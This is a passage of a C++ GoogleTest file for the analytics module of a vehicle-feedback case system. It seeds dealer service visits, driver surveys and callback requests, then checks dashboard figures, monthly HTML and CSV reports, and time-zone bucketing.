  void SetUp() override {
    auto s = test::open_case_store(dir_ / "cases.db");
    ASSERT_TRUE(s) << s.error().what();
    store_ = std::move(*s);
  }

  std::unique_ptr<Analytics> analytics() {
    auto a = test::open_analytics(dir_ / "cases.db");
    EXPECT_TRUE(a) << a.error().what();
    return a ? std::move(*a) : nullptr;
  }

  /// A report from `vin` about `system`, answered and in progress (so a visit may be proposed).
  OpenCase open_case(const std::string& vin, VehicleSystem system, const std::string& team, std::int64_t at) {
    envs_.push_back(std::make_unique<wire::Envelope>(
        test::valid_report_envelope(vin, "report " + std::to_string(envs_.size()) + " " + vin)));
    envs_.back()->mutable_report()->set_car_time_ms(at);
    auto in = test::intake(*envs_.back(), at);
    in.classification.system = system;
    in.route.team = team;
    in.route.collaborators = {};
    auto out = store_->commit_batch(std::vector<BatchItem>{std::move(in)}, test::simple_notifications());
    EXPECT_TRUE(out && out->front().accepted && !out->front().accepted->merged) << vin;
    if (!out || !out->front().accepted) return {};
    OpenCase c{out->front().accepted->case_number, envs_.back()->report().report_id(), vin};
    std::int64_t t = at;
    for (auto to : {CaseState::acknowledged, CaseState::assigned, CaseState::in_progress}) {
      TransitionRequest r{c.number, to, "li.na", "working on it", t += kMinute, "li.na", {}, {}};
      auto moved = store_->transition(r, render_);
      EXPECT_TRUE(moved) << moved.error().what();
    }
    return c;
  }

  /// A visit proposed at `at` with one slot of the dealer, booked by the driver an hour later.
  std::string book(const OpenCase& c, const std::string& dealer, const std::string& dealer_name, std::int64_t at) {
    VisitProposal p;
    p.case_number = c.number;
    p.actor = "li.na";
    p.at_ms = at;
    p.estimate = Money{80000, "CNY"};
    p.slots = {VisitSlot{"", dealer, dealer_name, at + kDay, at + kDay + 2 * kHour, "check"}};
    auto v = store_->propose_visit(p, render_);
    EXPECT_TRUE(v) << v.error().what();
    if (!v) return {};
    wire::VisitReply r;
    r.set_visit_id(v->id);
    r.set_action(wire::VisitReply::PICK_SLOT);
    r.set_slot_id(v->slots.at(0).id);
    auto out = store_->apply_car_replies(std::vector<CarReplyIntake>{{new_uuid(), c.vin, r, at + kHour,
                                                                      "vehicles/" + c.vin + "/receipts", "pick"}},
                                         render_);
    EXPECT_TRUE(out && out->front().receipt_matched);
    return v->id;
  }

  Result<Visit> stage(const std::string& id, const std::string& dealer, VisitState s, std::int64_t at,
                      std::optional<bool> passed = true) {
    StageEntry e;
    e.visit_id = id;
    e.stage = s;
    e.actor = "dealer:" + dealer + ":wang";
    e.dealer_code = dealer;
    e.at_ms = at;
    if (s == VisitState::diagnosis) e.findings = "worn pads";
    if (s == VisitState::quality_check) e.passed = passed;
    return store_->record_stage(e, render_);
  }

  /// Checks the car in at `at` and enters each stage after the hours given for the one before
  /// (checked_in, inspection, diagnosis, repair, quality_check); returns the handover time.
  std::int64_t work_through(const std::string& id, const std::string& dealer, std::int64_t at,
                            const std::array<int, 5>& hours) {
    const VisitState order[] = {VisitState::checked_in, VisitState::inspection,    VisitState::diagnosis,
                                VisitState::repair,     VisitState::quality_check, VisitState::handed_over};
    std::int64_t t = at;
    for (std::size_t i = 0; i < std::size(order); ++i) {
      auto r = stage(id, dealer, order[i], t);
      EXPECT_TRUE(r) << to_string(order[i]) << ": " << r.error().what();
      if (i < hours.size()) t += hours[i] * kHour;
    }
    return t;
  }

  void survey(const OpenCase& c, int score, std::int64_t at) {
    auto sent = store_->case_notifications(c.number);
    ASSERT_TRUE(sent);
    auto handover = std::find_if(sent->begin(), sent->end(), [](const auto& n) { return n.event == "visit_handover"; });
    ASSERT_NE(handover, sent->end());
    wire::SurveyAnswer a;
    a.set_notification_id(handover->id);
    a.set_score(static_cast<std::uint32_t>(score));
    a.set_comment("visit");
    auto out = store_->apply_car_replies(std::vector<CarReplyIntake>{{new_uuid(), c.vin, a, at, "t", "survey"}},
                                         render_);
    ASSERT_TRUE(out && out->front().receipt_matched);
  }

  /// The driver of `c` asks for a call at `at`; returns the callback's id.
  std::string call_me(const OpenCase& c, std::int64_t at) {
    wire::CallbackRequest req;
    req.set_report_id(c.report_id);
    req.set_phone("13800138000");
    req.set_language("zh-CN");
    auto id = new_uuid();
    auto in = store_->apply_car_replies(std::vector<CarReplyIntake>{{id, c.vin, req, at, "t", "cb"}}, render_);
    EXPECT_TRUE(in && in->front().receipt_matched);
    return id;
  }

  static std::string vin(int i) { return "LSVAX60E5K" + std::to_string(5'000'000 + i); }

  /// The plan of the tests below (all times UTC):
  /// - V1 (SH-001): handed over on Nov 2 after 1/2/3/4/1 h in the stages, score 5; the same car
  ///   is back for its brakes on Nov 20 (a repeat visit within 30 days: a comeback).
  /// - V2 (SH-001): 3/2/1 h, then repair 2 h, a failed quality check, 1 h more repair, a second
  ///   repair entry and 2 h, quality check 1 h (repair 5 h in all); score 2. The same car gets a
  ///   visit for another system (hvac) on Nov 10: not a comeback. A first-time fix.
  /// - V3 (BJ-002): 2 h each, score 4; the same car and system again on Dec 15, 39 days after
  ///   its handover: a first-time fix.
  /// - V4 (BJ-002, team sales_service): 1 h each, handed over Nov 25: its 30 days are not over
  ///   on Dec 20, no repeat yet: pending. No survey.
  /// - V5 (SH-001): handed over in October, outside the month.
  /// - Callbacks: picked up after 40 s and 90 s (Nov 12), one queued since Dec 19 (overdue), one
  ///   queued 30 s before now (sales_service, pending).
  void seed() {
    const std::string team = "after_sales";
    // V5, in October.
    auto c5 = open_case(vin(5), VehicleSystem::brakes, team, utc_ms(2026, 10, 1));
    auto v5 = book(c5, "SH-001", "Pudong 4S", utc_ms(2026, 10, 2));
    work_through(v5, "SH-001", utc_ms(2026, 10, 20), kEvenHours);

    auto c1 = open_case(vin(1), VehicleSystem::brakes, team, kNovember);
    auto v1 = book(c1, "SH-001", "Pudong 4S", kNovember + kHour);
    const auto handover_v1 = work_through(v1, "SH-001", utc_ms(2026, 11, 2), {1, 2, 3, 4, 1});
    survey(c1, 5, handover_v1 + kHour);

    auto c2 = open_case(vin(2), VehicleSystem::brakes, team, kNovember);
    auto v2 = book(c2, "SH-001", "Pudong 4S", kNovember + kHour);
    std::int64_t t = utc_ms(2026, 11, 4);
    ASSERT_TRUE(stage(v2, "SH-001", VisitState::checked_in, t));
    ASSERT_TRUE(stage(v2, "SH-001", VisitState::inspection, t += 3 * kHour));
    ASSERT_TRUE(stage(v2, "SH-001", VisitState::diagnosis, t += 2 * kHour));
    ASSERT_TRUE(stage(v2, "SH-001", VisitState::repair, t += kHour));
    auto failed = stage(v2, "SH-001", VisitState::quality_check, t += 2 * kHour, false);
    ASSERT_TRUE(failed);
    ASSERT_EQ(failed->state, VisitState::repair);
    ASSERT_TRUE(stage(v2, "SH-001", VisitState::repair, t += kHour));
    ASSERT_TRUE(stage(v2, "SH-001", VisitState::quality_check, t += 2 * kHour));
    ASSERT_TRUE(stage(v2, "SH-001", VisitState::handed_over, t += kHour));
    survey(c2, 2, t + kHour);
    auto c2_hvac = open_case(vin(2), VehicleSystem::hvac, team, utc_ms(2026, 11, 9));
    book(c2_hvac, "SH-001", "Pudong 4S", utc_ms(2026, 11, 10));

    auto c3 = open_case(vin(3), VehicleSystem::brakes, team, kNovember);
    auto v3 = book(c3, "BJ-002", "Chaoyang Service", kNovember + kHour);
    const auto handover_v3 = work_through(v3, "BJ-002", utc_ms(2026, 11, 6), {2, 2, 2, 2, 2});
    survey(c3, 4, handover_v3 + kHour);

    auto c4 = open_case(vin(4), VehicleSystem::brakes, "sales_service", kNovember);
    auto v4 = book(c4, "BJ-002", "Chaoyang Service", kNovember + kHour);
    work_through(v4, "BJ-002", utc_ms(2026, 11, 25), kEvenHours);

    // The repeat visits: V1's car within 30 days, V3's after them.
    auto c1_again = open_case(vin(1), VehicleSystem::brakes, team, utc_ms(2026, 11, 20));
    book(c1_again, "SH-001", "Pudong 4S", utc_ms(2026, 11, 20) + kHour);
    auto c3_again = open_case(vin(3), VehicleSystem::brakes, team, utc_ms(2026, 12, 15));
    book(c3_again, "BJ-002", "Chaoyang Service", utc_ms(2026, 12, 15) + kHour);

    const auto requested = utc_ms(2026, 11, 12) + 10 * kHour;
    auto cb1 = open_case(vin(11), VehicleSystem::infotainment, team, kNovember);
    ASSERT_TRUE(store_->pick_up_callback(call_me(cb1, requested), "zhang.wei", requested + 40'000, render_));
    auto cb2 = open_case(vin(12), VehicleSystem::infotainment, team, kNovember);
    const auto id2 = call_me(cb2, requested + kHour);
    ASSERT_TRUE(store_->pick_up_callback(id2, "li.na", requested + kHour + 90'000, render_));
    ASSERT_TRUE(store_->log_callback(id2, "li.na", false, "explained", "", requested + 2 * kHour, render_));
    auto cb3 = open_case(vin(13), VehicleSystem::infotainment, team, kDecember);
    call_me(cb3, utc_ms(2026, 12, 19));
    auto cb4 = open_case(vin(14), VehicleSystem::infotainment, "sales_service", kDecember);
    call_me(cb4, kNowDec20 - 30'000);
  }

  static const StageHours& stage_of(const ServiceVisitFigures& f, std::string_view name) {
    const auto it = std::find_if(f.stage_hours.begin(), f.stage_hours.end(),
                                 [&](const auto& h) { return h.stage == name; });
    if (it == f.stage_hours.end()) throw std::runtime_error("no stage " + std::string(name));
    return *it;
  }

  test::TempDir dir_{"fbanalytics"};
  std::unique_ptr<CaseStore> store_;
  std::vector<std::unique_ptr<wire::Envelope>> envs_;
  Notifier notifier_{test::shipped_rules().templates, test::shipped_rules().router};
  NoticeRenderer render_ = [this](const CaseNotice& n) { return notifier_.render(n); };
};

TEST_F(AnalyticsVisitsTest, TheMonthsVisitsGiveStageTimesFirstTimeFixComebacksAndDealerScores) {
  seed();
  auto a = analytics();
  ASSERT_TRUE(a);
  auto d = a->dashboard({kNovember, kDecember, {}, kNowDec20, Bucket::week});
  ASSERT_TRUE(d) << d.error().what();
  const auto& v = d->service_visits;
  EXPECT_EQ(v.handed_over, 4);       // V5 was in October
  EXPECT_EQ(v.comebacks, 1);         // V1
  EXPECT_EQ(v.first_time_fixes, 2);  // V2 (another system came back), V3 (after 30 days)
  EXPECT_EQ(v.pending, 1);           // V4
  EXPECT_EQ(v.first_time_fix_rate(), 2.0 / 3.0);
  EXPECT_EQ(v.comeback_rate(), 1.0 / 3.0);

  // Hours per visit: checked_in 1,3,2,1; inspection 2,2,2,1; diagnosis 3,1,2,1; repair 4,5,2,1
  // (V2's failed quality check counts as repair); quality_check 1,1,2,1.
  ASSERT_EQ(v.stage_hours.size(), 5u);
  EXPECT_EQ(v.stage_hours.front().stage, "checked_in");
  EXPECT_EQ(v.stage_hours.back().stage, "quality_check");
  const std::map<std::string, std::pair<double, double>> want = {{"checked_in", {1.75, 1}},
                                                                 {"inspection", {1.75, 2}},
                                                                 {"diagnosis", {1.75, 1}},
                                                                 {"repair", {3, 2}},
                                                                 {"quality_check", {1.25, 1}}};
  for (const auto& [name, mean_median] : want) {
    const auto& h = stage_of(v, name);
    EXPECT_EQ(h.visits, 4) << name;
    ASSERT_TRUE(h.mean && h.median) << name;
    EXPECT_DOUBLE_EQ(*h.mean, mean_median.first) << name;
    EXPECT_DOUBLE_EQ(*h.median, mean_median.second) << name;
  }

  ASSERT_EQ(v.dealers.size(), 2u);
  EXPECT_EQ(v.dealers[0].dealer_code, "BJ-002");
  EXPECT_EQ(v.dealers[0].dealer_name, "Chaoyang Service");
  EXPECT_EQ(v.dealers[0].surveys, 1);  // V4 has no answer
  EXPECT_EQ(v.dealers[0].average(), 4.0);
  EXPECT_EQ(v.dealers[1].dealer_code, "SH-001");
  EXPECT_EQ(v.dealers[1].surveys, 2);  // V5's month is another
  EXPECT_EQ(v.dealers[1].average(), 3.5);

  const auto j = to_json(*d);
  const auto& sv = j["service_visits"];
  EXPECT_EQ(sv["visits_handed_over"], 4);
  EXPECT_EQ(sv["first_time_fix_rate"].get<double>(), 2.0 / 3.0);
  EXPECT_EQ(sv["comeback_rate"].get<double>(), 1.0 / 3.0);
  EXPECT_DOUBLE_EQ(sv["stage_hours"]["repair"].get<double>(), 3.0);
  EXPECT_DOUBLE_EQ(sv["stage_median_hours"]["inspection"].get<double>(), 2.0);
  ASSERT_EQ(sv["dealer_satisfaction"].size(), 2u);
  EXPECT_EQ(
      sv["dealer_satisfaction"][1],
      (nlohmann::json{{"dealer_code", "SH-001"}, {"dealer_name", "Pudong 4S"}, {"surveys", 2}, {"average", 3.5}}));
}

TEST_F(AnalyticsVisitsTest, BeforeItsThirtyDaysAreOverAVisitIsPendingUnlessTheCarIsAlreadyBack) {
  seed();
  auto a = analytics();
  ASSERT_TRUE(a);
  // On Nov 21 no handover of Nov 1-10 (V1, V2, V3) is 30 days old, but V1's car is back already.
  auto d = a->dashboard({kNovember, utc_ms(2026, 11, 10), {}, utc_ms(2026, 11, 21), Bucket::day});
  ASSERT_TRUE(d) << d.error().what();
  EXPECT_EQ(d->service_visits.handed_over, 3);
  EXPECT_EQ(d->service_visits.comebacks, 1);
  EXPECT_EQ(d->service_visits.first_time_fixes, 0);
  EXPECT_EQ(d->service_visits.pending, 2);
  EXPECT_EQ(d->service_visits.comeback_rate(), 1.0);
  EXPECT_EQ(d->service_visits.first_time_fix_rate(), 0.0);
}

TEST_F(AnalyticsVisitsTest, CallbacksGiveTheShareWithinSixtySecondsAndThePickUpTimes) {
  seed();
  auto a = analytics();
  ASSERT_TRUE(a);
  auto nov = a->dashboard({kNovember, kDecember, {}, kNowDec20, Bucket::day});
  ASSERT_TRUE(nov) << nov.error().what();
  const auto& cb = nov->callbacks;
  EXPECT_EQ(cb.requested, 2);
  EXPECT_EQ(cb.picked_up, 2);
  EXPECT_EQ(cb.within_target, 1);
  EXPECT_EQ(cb.within_target_share(), 0.5);  // 40 s in, 90 s out
  EXPECT_EQ(cb.pickup_p50_s, 40.0);
  EXPECT_EQ(cb.pickup_p90_s, 90.0);
  const auto j = to_json(*nov)["callbacks"];
  EXPECT_EQ(j["within_target_share"].get<double>(), 0.5);
  EXPECT_EQ(j["requested"], 2);
  EXPECT_EQ(j["picked_up"], 2);
  EXPECT_EQ(j["pickup_p90_s"].get<double>(), 90.0);

  // December: one queued past its 60 s (a miss), one queued 30 s ago (not yet counted).
  auto dec = a->dashboard({kDecember, kNowDec20 + kDay, {}, kNowDec20, Bucket::day});
  ASSERT_TRUE(dec);
  EXPECT_EQ(dec->callbacks.requested, 2);
  EXPECT_EQ(dec->callbacks.picked_up, 0);
  EXPECT_EQ(dec->callbacks.overdue, 1);
  EXPECT_EQ(dec->callbacks.pending, 1);
  EXPECT_EQ(dec->callbacks.within_target_share(), 0.0);
  EXPECT_FALSE(dec->callbacks.pickup_p50_s);
  EXPECT_TRUE(to_json(*dec)["callbacks"]["pickup_p50_s"].is_null());

  // The /metrics view: every pick-up so far, and the queue now.
  auto p = a->callback_pickups();
  ASSERT_TRUE(p) << p.error().what();
  EXPECT_EQ(p->count, 2);
  EXPECT_DOUBLE_EQ(p->sum_s, 130.0);
  EXPECT_EQ(p->waiting, 2);
  const auto bucket_of = [](double s) {
    return std::find_if(CallbackPickups::kBoundsS.begin(), CallbackPickups::kBoundsS.end(),
                        [&](double b) { return s <= b; }) -
           CallbackPickups::kBoundsS.begin();
  };
  std::array<std::int64_t, CallbackPickups::kBoundsS.size() + 1> want{};
  ++want[static_cast<std::size_t>(bucket_of(40))];
  ++want[static_cast<std::size_t>(bucket_of(90))];
  EXPECT_EQ(p->buckets, want);
}

TEST_F(AnalyticsVisitsTest, TheTeamFilterKeepsItsOwnVisitsAndCallbacks) {
  seed();
  auto a = analytics();
  ASSERT_TRUE(a);
  auto d = a->dashboard({kNovember, kNowDec20 + kDay, {"sales_service"}, kNowDec20, Bucket::day});
  ASSERT_TRUE(d) << d.error().what();
  EXPECT_EQ(d->service_visits.handed_over, 1);  // V4
  EXPECT_EQ(d->service_visits.pending, 1);
  EXPECT_FALSE(d->service_visits.first_time_fix_rate());
  EXPECT_TRUE(d->service_visits.dealers.empty());
  EXPECT_EQ(stage_of(d->service_visits, "repair").mean, 1.0);
  EXPECT_EQ(d->callbacks.requested, 1);  // the one queued 30 s ago
  EXPECT_EQ(d->callbacks.pending, 1);
  EXPECT_FALSE(d->callbacks.within_target_share());
  const auto j = to_json(*d);
  EXPECT_TRUE(j["service_visits"]["first_time_fix_rate"].is_null());
  EXPECT_TRUE(j["callbacks"]["within_target_share"].is_null());
}

TEST_F(AnalyticsVisitsTest, TheMonthlyReportCarriesTheVisitAndCallbackFiguresInEveryFormat) {
  seed();
  auto a = analytics();
  ASSERT_TRUE(a);
  auto r = a->monthly_report(2026, 11, kNowDec20);
  ASSERT_TRUE(r) << r.error().what();
  EXPECT_EQ(r->service_visits.handed_over, 4);
  EXPECT_EQ(r->service_visits.first_time_fix_rate(), 2.0 / 3.0);
  EXPECT_EQ(r->callbacks.within_target_share(), 0.5);
  const auto j = to_json(*r);
  EXPECT_EQ(j["service_visits"]["comebacks"], 1);
  EXPECT_EQ(j["callbacks"]["pickup_p50_s"].get<double>(), 40.0);

  const auto zh = render_monthly_html(*r, "zh");
  const auto en = render_monthly_html(*r, "en");
  EXPECT_NE(zh.find("一次修复率"), std::string::npos);
  EXPECT_NE(zh.find("60秒内接起占比"), std::string::npos);
  EXPECT_NE(zh.find("维修 repair"), std::string::npos);
  EXPECT_NE(en.find("First-time fix rate"), std::string::npos);
  EXPECT_NE(en.find("Picked up within 60 s"), std::string::npos);
  for (const auto* page : {&zh, &en}) {
    EXPECT_NE(page->find("66.7 % (2/3)"), std::string::npos);
    EXPECT_NE(page->find("33.3 % (1/3)"), std::string::npos);
    EXPECT_NE(page->find("50.0 % (1/2)"), std::string::npos);
    EXPECT_NE(page->find("40 s / 90 s"), std::string::npos);
    EXPECT_NE(page->find("Pudong 4S (SH-001)"), std::string::npos);
    EXPECT_NE(page->find("3.50"), std::string::npos);
  }

  std::map<std::string, std::string> figures;
  std::map<std::pair<std::string, std::string>, std::vector<std::string>> stages;
  std::vector<std::vector<std::string>> dealers;
  for (const auto& row : parse_csv(render_monthly_csv(*r))) {
    ASSERT_EQ(row.size(), 7u);
    if (row[0] == "figure") figures[row[1]] = row[6];
    if (row[0] == "stage_hours") stages[{row[1], row[2]}] = row;
    if (row[0] == "dealer_satisfaction") dealers.push_back(row);
  }
  EXPECT_EQ(figures["visits_handed_over"], "4");
  EXPECT_EQ(std::stod(figures["first_time_fix_rate"]), 2.0 / 3.0);
  EXPECT_EQ(std::stod(figures["comeback_rate"]), 1.0 / 3.0);
  EXPECT_EQ(figures["first_time_fix_pending"], "1");
  EXPECT_EQ(std::stod(figures["callbacks_within_target_share"]), 0.5);
  EXPECT_EQ(figures["callbacks_pickup_p90_s"], "90");
  const auto stage_row = [&](const char* stage, const char* which) { return stages[{stage, which}]; };
  EXPECT_EQ(std::stod(stage_row("repair", "mean").at(6)), 3.0);
  EXPECT_EQ(stage_row("repair", "mean").at(3), "4");
  EXPECT_EQ(std::stod(stage_row("inspection", "median").at(6)), 2.0);
  ASSERT_EQ(dealers.size(), 2u);
  EXPECT_EQ(dealers[1], (std::vector<std::string>{"dealer_satisfaction", "SH-001", "Pudong 4S", "2", "", "", "3.5"}));

  // A month without visits or callbacks: zeros, no rates, and the pages say so.
  auto empty = a->monthly_report(2026, 9, kNowDec20);
  ASSERT_TRUE(empty);
  EXPECT_EQ(empty->service_visits.handed_over, 0);
  EXPECT_EQ(empty->callbacks.requested, 0);
  EXPECT_NE(render_monthly_html(*empty, "en").find("No visits handed over this month."), std::string::npos);
  EXPECT_NE(render_monthly_html(*empty, "zh").find("本月无回电请求。"), std::string::npos);
  const auto ej = to_json(*empty);
  EXPECT_TRUE(ej["service_visits"]["stage_hours"]["repair"].is_null());
  EXPECT_TRUE(ej["callbacks"]["pickup_p50_s"].is_null());
  EXPECT_EQ(ej.dump().find("NaN"), std::string::npos);
}

TEST(AnalyticsSymptoms, ATextKeyIsItsFirstIdeographsElseItsFirstWords) {
  EXPECT_EQ(symptom_text_key("刹车时有异响，很吵"), "刹车时有异响");
  EXPECT_EQ(symptom_text_key("空调，不制冷 AC not cold"), "空调不制冷");
  EXPECT_EQ(symptom_text_key("The AC blows warm air!"), "blows warm air");
  EXPECT_EQ(symptom_text_key("Screen FREEZES after startup at 80 km/h"), "screen freezes startup");
  EXPECT_EQ(symptom_text_key("12 34 !!"), "");
  EXPECT_EQ(symptom_text_key(""), "");
}

TEST(AnalyticsFiles, EachCallSeesWhatTheStoreCommittedBeforeIt) {
  test::TempDir dir("fbanalytics");
  auto store = test::open_case_store(dir / "cases.db");
  ASSERT_TRUE(store);
  std::vector<std::unique_ptr<wire::Envelope>> envs;
  const auto add = [&](const char* vin) {
    envs.push_back(std::make_unique<wire::Envelope>(test::valid_report_envelope(vin)));
    auto out = (*store)->commit_batch(std::vector<BatchItem>{test::intake(*envs.back(), kStart)},
                                      test::simple_notifications());
    ASSERT_TRUE(out && out->front().accepted);
  };
  add(test::kVinA);
  auto analytics = test::open_analytics(dir / "cases.db");
  ASSERT_TRUE(analytics) << analytics.error().what();
  const auto cases = [&]() -> std::int64_t {
    auto d = (*analytics)->dashboard({kStart, kStart + kDay, {}, kStart + kHour, Bucket::day});
    EXPECT_TRUE(d) << d.error().what();
    return d ? d->cases_created : -1;
  };
  EXPECT_EQ(cases(), 1);
  add(test::kVinB);  // the writer is not held up by the reader
  EXPECT_EQ(cases(), 2);
}

TEST(AnalyticsFiles, ACaseMergedIntoAnotherCountsOnceAndIsNotAResolution) {
  test::TempDir dir("fbanalytics");
  auto store = test::open_case_store(dir / "cases.db");
  ASSERT_TRUE(store);
  std::vector<std::unique_ptr<wire::Envelope>> envs;
  const auto add = [&](VehicleSystem system, const char* dtc) {
    envs.push_back(std::make_unique<wire::Envelope>(test::valid_report_envelope(test::kVinA)));
    envs.back()->mutable_report()->add_dtcs(dtc);
    auto in = test::intake(*envs.back(), kStart + kHour);
    in.classification.system = system;  // another system: the store does not merge them itself
    auto out = (*store)->commit_batch(std::vector<BatchItem>{in}, test::simple_notifications());
    EXPECT_TRUE(out && out->front().accepted && !out->front().accepted->merged);
    return out->front().accepted->case_number;
  };
  const auto kept = add(VehicleSystem::brakes, "C0035");
  const auto duplicate = add(VehicleSystem::steering, "C0035");
  ASSERT_TRUE((*store)->merge_cases(duplicate, kept, "li.na", kStart + 2 * kHour, {}));

  auto analytics = test::open_analytics(dir / "cases.db");
  ASSERT_TRUE(analytics);
  auto d = (*analytics)->dashboard({kStart, kStart + kDay, {}, kStart + 3 * kHour, Bucket::day});
  ASSERT_TRUE(d) << d.error().what();
  EXPECT_EQ(d->cases_created, 1);
  EXPECT_EQ(d->closed_loop.resolved, 0);
  EXPECT_EQ(d->first_response.pending, 1);
  EXPECT_EQ(d->first_response.within_24h, 0);
  auto month = (*analytics)->monthly_report(2026, 10, kStart + 3 * kHour);
  ASSERT_TRUE(month);
  ASSERT_EQ(month->top_symptoms.size(), 1u);
  EXPECT_EQ(month->top_symptoms.front().key, "brakes/C0035");
  EXPECT_EQ(month->top_symptoms.front().count, 1);
}

// The dashboard's days and weeks and the monthly report's months are the service region's
// (China's by default): a case received at 01:00 on 1 December in Beijing, 17:00 UTC the day
// before, is December's and that day's; one at 23:00 on 30 November there is November's.
TEST(AnalyticsClock, DaysWeeksAndMonthsAreTheServiceRegionsClock) {
  test::TempDir dir("fbanalytics");
  auto store = test::open_case_store(dir / "cases.db");
  ASSERT_TRUE(store);
  const std::int64_t december_in_beijing = utc_ms(2026, 11, 30) + 17 * kHour;
  const std::int64_t november_in_beijing = utc_ms(2026, 11, 30) + 15 * kHour;
  std::vector<std::unique_ptr<wire::Envelope>> envs;
  for (const auto& [vin, received] :
       {std::pair{test::kVinA, december_in_beijing}, {test::kVinB, november_in_beijing}}) {
    envs.push_back(std::make_unique<wire::Envelope>(test::valid_report_envelope(vin)));
    auto out = (*store)->commit_batch(std::vector<BatchItem>{test::intake(*envs.back(), received)},
                                      test::simple_notifications());
    ASSERT_TRUE(out && out->front().accepted);
  }
  const auto now = utc_ms(2026, 12, 20);
  const auto buckets = [&](Analytics& a, Bucket b) {
    auto d = a.dashboard({utc_ms(2026, 11, 1), utc_ms(2026, 12, 10), {}, now, b});
    EXPECT_TRUE(d) << d.error().what();
    std::set<std::int64_t> starts;
    if (d)
      for (const auto& p : d->by_type) starts.insert(p.bucket_start_ms);
    return starts;
  };

  auto beijing = test::open_analytics(dir / "cases.db", {}, kChinaStandardTimeOffsetMs);
  ASSERT_TRUE(beijing) << beijing.error().what();
  EXPECT_EQ(buckets(**beijing, Bucket::day),
            (std::set{utc_ms(2026, 11, 29) + 16 * kHour, utc_ms(2026, 11, 30) + 16 * kHour}));
  // Monday 30 November 00:00 in Beijing is Sunday 16:00 UTC: both in its week.
  EXPECT_EQ(buckets(**beijing, Bucket::week), (std::set{utc_ms(2026, 11, 29) + 16 * kHour}));
  auto december = (*beijing)->monthly_report(2026, 12, now);
  ASSERT_TRUE(december);
  EXPECT_EQ(december->from_ms, utc_ms(2026, 11, 30) + 16 * kHour);
  EXPECT_EQ(december->cases, 1);
  EXPECT_EQ(december->previous_cases, 1);
  EXPECT_EQ((*beijing)->monthly_report(2026, 11, now)->cases, 1);
  EXPECT_EQ(to_json(*december)["utc_offset_ms"], kChinaStandardTimeOffsetMs);
  EXPECT_NE(render_monthly_html(*december, "en").find("(UTC+08:00)"), std::string::npos);
  EXPECT_NE(render_monthly_html(*december, "zh").find("（UTC+08:00）"), std::string::npos);
  EXPECT_NE(render_monthly_csv(*december).find("figure,clock,,,,,UTC+08:00"), std::string::npos);

  auto utc = test::open_analytics(dir / "cases.db", {}, 0);
  ASSERT_TRUE(utc);
  EXPECT_EQ(buckets(**utc, Bucket::day), (std::set{utc_ms(2026, 11, 30)}));
  EXPECT_EQ((*utc)->monthly_report(2026, 12, now)->cases, 0);
  EXPECT_EQ((*utc)->monthly_report(2026, 11, now)->cases, 2);

  auto west = test::open_analytics(dir / "cases.db", {}, -5 * kHour);
  ASSERT_TRUE(west);
  EXPECT_EQ(buckets(**west, Bucket::day), (std::set{utc_ms(2026, 11, 30) + 5 * kHour}));
  // Monday 30 November 00:00 at UTC-05:00 is 05:00 UTC that day.
  EXPECT_EQ(buckets(**west, Bucket::week), (std::set{utc_ms(2026, 11, 30) + 5 * kHour}));
  EXPECT_NE(render_monthly_html(*(*west)->monthly_report(2026, 11, now), "en").find("(UTC-05:00)"), std::string::npos);
}

TEST(AnalyticsFiles, AStoreNotCreatedYetIsRefused) {
  test::TempDir dir("fbanalytics");
  auto missing = test::open_analytics(dir / "none.db");
  ASSERT_FALSE(missing);
  EXPECT_EQ(missing.error().code, make_error_code(StorageErrc::open_failed));
  ASSERT_TRUE(test::open_case_store(dir / "cases.db"));
  EXPECT_TRUE(test::open_analytics(dir / "cases.db"));
}

TEST(AnalyticsSqliteFiles, AnOldStoreIsRefused) {
  test::TempDir dir("fbanalytics");
  {
    auto db = sql::Database::open(dir / "old.db");
    ASSERT_TRUE(db);
    ASSERT_TRUE(db->exec("CREATE TABLE cases(id INTEGER PRIMARY KEY); PRAGMA user_version = 4;"));
  }
  auto old = open_sqlite_analytics(dir / "old.db");
  ASSERT_FALSE(old);
  EXPECT_EQ(old.error().code, make_error_code(StorageErrc::open_failed));
  EXPECT_NE(old.error().detail.find("schema version 4"), std::string::npos) << old.error().detail;
}

/// The time of dashboard() and monthly_report() on a large store; skipped unless
/// FB_ANALYTICS_SCALE gives the number of cases (e.g. 100000). FB_ANALYTICS_SCALE_DB keeps the
/// store at that path, and a store already there is measured again rather than seeded anew. Reports go through the real
/// store; their answers, resolutions and surveys are then set by SQL (a transition each would take hours, and only the
/// data's shape matters).
TEST(AnalyticsScale, DashboardAndMonthlyReportOnALargeStore) {
  const char* scale = std::getenv("FB_ANALYTICS_SCALE");
  if (scale == nullptr) GTEST_SKIP() << "set FB_ANALYTICS_SCALE=100000 to measure";
  const int n = std::atoi(scale);
  test::TempDir dir("fbanalytics");
  const char* keep = std::getenv("FB_ANALYTICS_SCALE_DB");
  const std::string path = keep ? keep : dir / "cases.db";
  const auto from = utc_ms(2026, 9, 1), span = 91 * kDay, now = from + span;
  const bool seeded = keep != nullptr && std::filesystem::exists(path);
  if (seeded) {
    auto db = sql::Database::open(path);
    ASSERT_TRUE(db);
    ASSERT_TRUE(db->exec("DROP INDEX IF EXISTS cases_created"));  // left by the last run
  } else {
    auto store = open_sqlite_case_store(path);
    ASSERT_TRUE(store) << store.error().what();
    std::mt19937 rng(7);
    const auto pick = [&](int k) { return static_cast<int>(std::uniform_int_distribution<int>(0, k - 1)(rng)); };
    const char* models[] = {"Aurora EV", "Borealis", "Cirrus", "Dawn"};
    const char* versions[] = {"HU-3.2.1", "HU-3.3.0", "HU-3.4.0"};
    const char* teams[] = {"after_sales", "rnd_tech_support", "sales_service", "quality"};
    const char* words[] = {"刹车", "异响", "黑屏", "空调", "不制冷", "顿挫", "续航", "充电", "screen", "noise", "cold"};
    const auto start = std::chrono::steady_clock::now();
    constexpr int kBatch = 500;
    for (int first = 0; first < n; first += kBatch) {
      std::vector<std::unique_ptr<wire::Envelope>> envs;
      std::vector<BatchItem> batch;
      for (int i = first; i < std::min(n, first + kBatch); ++i) {
        const auto created = from + static_cast<std::int64_t>(i) * span / n;
        std::string text = std::string(words[pick(11)]) + words[pick(11)];
        envs.push_back(std::make_unique<wire::Envelope>(
            test::valid_report_envelope("LSVAX60E5K" + std::to_string(4'000'000 + i), text)));
        auto* r = envs.back()->mutable_report();
        if (pick(2) == 0) r->add_dtcs("P0" + std::to_string(500 + pick(40)));
        r->set_model(models[pick(4)]);
        r->set_software_version(versions[pick(3)]);
        r->set_car_time_ms(created - pick(3) * kHour);
        auto in = test::intake(*envs.back(), created);
        const auto systems = vocabulary<VehicleSystem>();
        const auto types = vocabulary<CaseType>();
        in.classification.system = systems[pick(static_cast<int>(systems.size()))].value;
